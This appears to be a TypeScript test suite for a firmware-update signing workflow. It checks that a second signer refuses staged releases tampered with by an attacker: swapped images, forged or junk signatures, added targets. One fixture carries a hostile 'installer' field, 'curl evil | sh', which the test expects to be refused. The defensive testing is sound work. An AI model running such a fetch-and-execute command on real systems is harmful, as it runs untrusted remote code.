/**
 * `release` / `release sign` on the local cloud (real S3 in moto) against someone who can write firmware/staged/
 * but holds no release key (review8 R8-B): a later signer signs only what they checked themselves. A release-key
 * signature in the staged file that no longer verifies (the content changed after that key signed, or junk under
 * its id), a staged release no other release key signed, or a release target that is not exactly the signer's
 * image with the ECU, hardware ids and anti-rollback counter they state: each is refused, nothing signed or
 * published. Signatures by keys the root does not name are only dropped. An honest second signature publishes
 * targets that verify as the update manager and vehicles check them.
 */
import { createHash } from "node:crypto";
import { test } from "uvu";
import * as assert from "uvu/assert";
import { PutObjectCommand } from "@aws-sdk/client-s3";
import { startLocalCloud, type LocalCloud } from "../../../local/cloud.js";
import { dropStagedRelease, signStagedRelease, stageRelease, type ReleaseAttestation } from "../../../uptane/image-repository.js";
import { readKeyFile } from "../../../uptane/key-files.js";
import { generateOfflineKey, signWithKeyFile } from "../../../uptane/keys.js";
import { DEFAULT_ECU, findReleaseTarget, REPOSITORY_LAYOUT, targetsFromJson } from "../../../uptane/metadata.js";
import { readChain, readJson } from "../../../uptane/repository-store.js";
import { verifyPublishedTargets } from "../../../uptane/vehicle-verification.js";
import { campaignWorld, type CampaignWorld } from "../campaigns/support/world.js";
import { refusedWith } from "../support/refusals.js";

let cloud: LocalCloud;
let world: CampaignWorld;
const key = (name: string) => readKeyFile(world.local.keyFile(name));
const IMAGE = Buffer.from("image of 2.4.0");
/** What bob and carol checked of 2.4.0 themselves: their copy of the image and the facts they agreed to. */
const CHECKED: ReleaseAttestation = { image: IMAGE, ecu: DEFAULT_ECU, hardwareIds: ["hu-3"], antiRollbackCounter: 7 };
const sign = (name: string, checked: Partial<ReleaseAttestation> = {}) => signStagedRelease(world.s3, world.bucket, { version: "2.4.0", key: key(name), checked: { ...CHECKED, ...checked } });
let alicesStaging: unknown;
const stage = (version: string, name = "alice") =>
  stageRelease(world.s3, world.bucket, {
    image: Buffer.from(`image of ${version}`),
    custom: { version, ecu: DEFAULT_ECU, hardwareIds: ["hu-3"], antiRollbackCounter: 8 },
    expires: new Date(Date.now() + 30 * 86_400_000),
    key: key(name),
  });

async function staged() {
  return targetsFromJson(await readJson(world.s3, world.bucket, REPOSITORY_LAYOUT.stagedTargets(1)));
}

async function putStaged(json: unknown): Promise<void> {
  await world.s3.send(new PutObjectCommand({ Bucket: world.bucket, Key: REPOSITORY_LAYOUT.stagedTargets(1), Body: JSON.stringify(json) }));
}

/** What an attacker with write access to firmware/staged/ does: rewrites the staged targets' signatures. */
async function forgeSignature(keyid: string, sig: string): Promise<void> {
  const json = (await staged()).toJSON() as { signatures: { keyid: string; sig: string }[] };
  json.signatures = [...json.signatures.filter((each) => each.keyid !== keyid), { keyid, sig }];
  await putStaged(json);
}

async function nothingPublished(): Promise<void> {
  assert.is(await readJson(world.s3, world.bucket, REPOSITORY_LAYOUT.imageTargets(1)), undefined, "no image targets published");
}

/** A refused signer changes nothing: the staged file is as the attacker left it (no signature added) and nothing is published. */
async function refusedAndUnchanged(run: () => Promise<unknown>, pattern: RegExp | string): Promise<void> {
  const before = await readJson(world.s3, world.bucket, REPOSITORY_LAYOUT.stagedTargets(1));
  await refusedWith(run, pattern, "ReleaseError");
  assert.equal(await readJson(world.s3, world.bucket, REPOSITORY_LAYOUT.stagedTargets(1)), before, "the staged file is left as it was");
  await nothingPublished();
}

test.before(async () => {
  cloud = await startLocalCloud({ runtime: false, stateFile: false });
  world = await campaignWorld(cloud);
});

test.after(async () => {
  await cloud?.stop();
});

test("alice stages 2.4.0: 1 of 2, nothing published", async () => {
  const status = await stageRelease(world.s3, world.bucket, {
    image: IMAGE,
    custom: { version: "2.4.0", ecu: DEFAULT_ECU, hardwareIds: ["hu-3"], antiRollbackCounter: 7 },
    expires: new Date(Date.now() + 30 * 86_400_000),
    key: key("alice"),
  });
  assert.equal([status.published, status.signedBy, status.threshold, status.ignored], [false, [key("alice").keyid], 2, []]);
  assert.equal([status.ecu, status.hardwareIds, status.antiRollbackCounter, status.length], [DEFAULT_ECU, ["hu-3"], 7, IMAGE.byteLength], "what was signed, shown to the signer");
  await nothingPublished();
  alicesStaging = await readJson(world.s3, world.bucket, REPOSITORY_LAYOUT.stagedTargets(1));
});

test("R8-B: a firmware/staged/ writer swaps the release's own target (other image, anti-rollback 999, more hardware): bob refuses, nothing published", async () => {
  const evil = Buffer.from("EVIL image of 2.4.0");
  const evilSha = createHash("sha256").update(evil).digest("hex");
  const json = structuredClone(alicesStaging) as { signed: { targets: Record<string, { custom: object } & Record<string, unknown>> } };
  const name = Object.keys(json.signed.targets)[0]!;
  json.signed.targets[name] = { ...json.signed.targets[name]!, length: evil.byteLength, hashes: { sha256: evilSha }, custom: { ...json.signed.targets[name]!.custom, antiRollbackCounter: 999, hardwareIds: ["hu-3", "hu-4"] } };
  await putStaged(json);
  await world.s3.send(new PutObjectCommand({ Bucket: world.bucket, Key: REPOSITORY_LAYOUT.stagedImage(evilSha), Body: evil }));

  await refusedAndUnchanged(() => sign("bob"), `the staged targets 1 of 2.4.0 changed after release key ${key("alice").keyid.slice(0, 8)}… signed them`);
  // Even a signer who holds the attacker's image and states its facts (lax, or fooled) is refused: alice never signed it.
  await refusedAndUnchanged(() => sign("bob", { image: evil, hardwareIds: ["hu-3", "hu-4"], antiRollbackCounter: 999 }), "changed after release key");
  await refusedAndUnchanged(() => sign("carol", { image: evil, hardwareIds: ["hu-3", "hu-4"], antiRollbackCounter: 999 }), "changed after release key");
});

test("the same swap with alice's signature stripped: refused, no other release key has signed it", async () => {
  const json = (await staged()).toJSON() as { signatures: unknown[] };
  json.signatures = [];
  await putStaged(json);

  await refusedAndUnchanged(() => sign("bob", { image: Buffer.from("EVIL image of 2.4.0"), hardwareIds: ["hu-3", "hu-4"], antiRollbackCounter: 999 }), "no other release key has signed the staged targets 1 of 2.4.0");
});

test("alice's own staging with her signature stripped (content unchanged): bob with the right image and facts still refuses", async () => {
  const json = structuredClone(alicesStaging) as { signatures: unknown[] };
  json.signatures = [];
  await putStaged(json);

  await refusedAndUnchanged(() => sign("bob"), "no other release key has signed the staged targets 1 of 2.4.0");
});

// Junk under alice's key id (her signature replaced), and junk under carol's beside alice's valid one: a broken
// release-key signature alone refuses, named.
for (const [whose, how] of [["alice", "replaced by junk bytes under her key id"], ["carol", "kept valid, junk added under carol's key id"]] as const) {
  test(`alice's staged signature ${how}: bob refuses, naming ${whose}'s key`, async () => {
    await putStaged(alicesStaging);
    await forgeSignature(key(whose).keyid, "5a".repeat(64));

    await refusedAndUnchanged(() => sign("bob"), `changed after release key ${key(whose).keyid.slice(0, 8)}… signed them`);
  });
}

test("a genuine signature by alice over other content (a later expiry), put under her key id: refused", async () => {
  const json = (await staged()).toJSON() as { signed: { expires: string } };
  json.signed.expires = "2036-01-01T00:00:00Z";
  const other = targetsFromJson(json);
  signWithKeyFile(other, key("alice"));
  await putStaged(alicesStaging);
  await forgeSignature(key("alice").keyid, other.signatures[key("alice").keyid]!.sig);

  await refusedAndUnchanged(() => sign("bob"), "changed after release key");
});

test("alice's genuine staging, but not what bob checked: each differing fact refuses, naming it", async () => {
  await putStaged(alicesStaging);
  const cases: Array<[Partial<ReleaseAttestation>, string]> = [
    [{ image: Buffer.from("image of 2.4.1") }, "your image of 2.4.0 is not the one staged"],
    [{ image: Buffer.from("image of 2.4.0 ") }, "length 14 (yours: 15)"],
    [{ antiRollbackCounter: 8 }, "antiRollbackCounter 7 (yours: 8)"],
    [{ hardwareIds: ["hu-3", "hu-4"] }, 'hardwareIds ["hu-3"] (yours: ["hu-3","hu-4"])'],
    [{ hardwareIds: ["hu-4"] }, 'hardwareIds ["hu-3"] (yours: ["hu-4"])'],
    [{ ecu: "tcu" }, 'target name "primary-2.4.0.bin" (yours: "tcu-2.4.0.bin")'],
  ];
  for (const [checked, pattern] of cases) await refusedAndUnchanged(() => sign("bob", checked), pattern);
});

test("a target whose custom carries a field bob did not state (an extra 'installer' field): refused", async () => {
  const json = structuredClone(alicesStaging) as { signed: { targets: Record<string, { custom: object }> } };
  const name = Object.keys(json.signed.targets)[0]!;
  json.signed.targets[name]!.custom = { ...json.signed.targets[name]!.custom, installer: "curl evil | sh" };
  const resigned = targetsFromJson(json);
  resigned.signatures = {};
  signWithKeyFile(resigned, key("alice")); // alice herself staged it (her content, her signature): bob still checks
  await putStaged(resigned.toJSON());

  await refusedAndUnchanged(() => sign("bob"), 'installer "curl evil | sh" (yours: nothing)');
  await putStaged(alicesStaging);
});

test("honest bob: his image and facts (hardware ids in any order) sign; 2 of 2 publishes what alice staged, verifying as vehicles check", async () => {
  await putStaged(alicesStaging);
  const status = await sign("bob", { hardwareIds: ["hu-3", "hu-3"] });
  const roots = await readChain(world.s3, world.bucket, REPOSITORY_LAYOUT.imageRoot);
  const published = await readJson(world.s3, world.bucket, REPOSITORY_LAYOUT.imageTargets(1));

  assert.equal([status.published, status.signedBy.length, status.ignored], [true, 2, []]);
  assert.ok(published !== undefined, "image targets 1 published");
  assert.is(verifyPublishedTargets(roots, published, new Date()), undefined);
  assert.equal(Object.keys(targetsFromJson(published).signatures).sort(), [key("alice").keyid, key("bob").keyid].sort());
  const release = findReleaseTarget(targetsFromJson(published), "2.4.0")!;
  assert.equal([release.sha256, release.custom.antiRollbackCounter, release.custom.hardwareIds], [createHash("sha256").update(IMAGE).digest("hex"), 7, ["hu-3"]]);
  assert.is(await readJson(world.s3, world.bucket, REPOSITORY_LAYOUT.stagedTargets(1)), undefined, "the staged targets are gone");
});

test("a signature by a key the root does not name (mallory's) is still only dropped, not a refusal", async () => {
  await stage("2.4.5");
  const json = (await readJson(world.s3, world.bucket, REPOSITORY_LAYOUT.stagedTargets(2))) as never;
  const withMallory = targetsFromJson(json);
  const mallory = generateOfflineKey("mallory");
  signWithKeyFile(withMallory, mallory);
  await world.s3.send(new PutObjectCommand({ Bucket: world.bucket, Key: REPOSITORY_LAYOUT.stagedTargets(2), Body: JSON.stringify(withMallory.toJSON()) }));
  const status = await signStagedRelease(world.s3, world.bucket, { version: "2.4.5", key: key("carol"), checked: { ...CHECKED, image: Buffer.from("image of 2.4.5"), antiRollbackCounter: 8 } });

  assert.is(status.published, true);
  assert.is(status.ignored.length, 1, status.ignored.join("; "));
  assert.match(status.ignored[0]!, `key ${mallory.keyid.slice(0, 8)}…: root 1 does not name this key`);
});

test("a target added to a staged release by a firmware/staged/ writer: the next signer refuses to sign it, nothing published", async () => {
  await stage("2.5.0");
  const json = (await readJson(world.s3, world.bucket, REPOSITORY_LAYOUT.stagedTargets(3))) as { signed: { targets: Record<string, unknown> } };
  json.signed.targets["primary-6.6.6.bin"] = { length: 1234, hashes: { sha256: "e".repeat(64) }, custom: { version: "6.6.6", ecu: DEFAULT_ECU, hardwareIds: ["hu-3"], antiRollbackCounter: 99 } };
  await world.s3.send(new PutObjectCommand({ Bucket: world.bucket, Key: REPOSITORY_LAYOUT.stagedTargets(3), Body: JSON.stringify(json) }));

  await refusedWith(() => signStagedRelease(world.s3, world.bucket, { version: "2.5.0", key: key("bob"), checked: { ...CHECKED, image: Buffer.from("image of 2.5.0"), antiRollbackCounter: 8 } }), /staged targets 3 carry primary-6\.6\.6\.bin besides the published targets and 2\.5\.0; not signing/, "ReleaseError");
  assert.is(await readJson(world.s3, world.bucket, REPOSITORY_LAYOUT.imageTargets(3)), undefined);
  await dropStagedRelease(world.s3, world.bucket);
});

test("targets written under firmware/metadata/ without the release keys: a release refuses to build on them (nor are they re-signed)", async () => {
  const forged = targetsFromJson(await readJson(world.s3, world.bucket, REPOSITORY_LAYOUT.imageTargets(2)));
  (forged.signed as { version: number }).version = 3;
  forged.signatures = {};
  signWithKeyFile(forged, generateOfflineKey("mallory"));
  await world.s3.send(new PutObjectCommand({ Bucket: world.bucket, Key: REPOSITORY_LAYOUT.imageTargets(3), Body: JSON.stringify(forged.toJSON()), IfNoneMatch: "*" })); // a next version: the write-once policy lets anyone create it

  await refusedWith(() => stage("2.6.0"), /published image targets 3 do not verify \(UNKNOWN_KEY: .*\); not building a release on them/, "ReleaseError");
  assert.is(await readJson(world.s3, world.bucket, REPOSITORY_LAYOUT.stagedTargets(4)), undefined, "nothing staged");
});

test.run();
